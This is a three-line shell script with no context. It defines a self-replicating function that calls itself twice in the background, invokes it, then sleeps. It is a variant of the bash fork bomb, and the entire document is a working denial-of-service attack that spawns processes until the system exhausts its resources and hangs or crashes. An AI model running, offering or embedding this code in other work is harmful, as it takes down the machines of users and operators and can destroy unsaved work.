f() { f | f & }
f
sleep 60
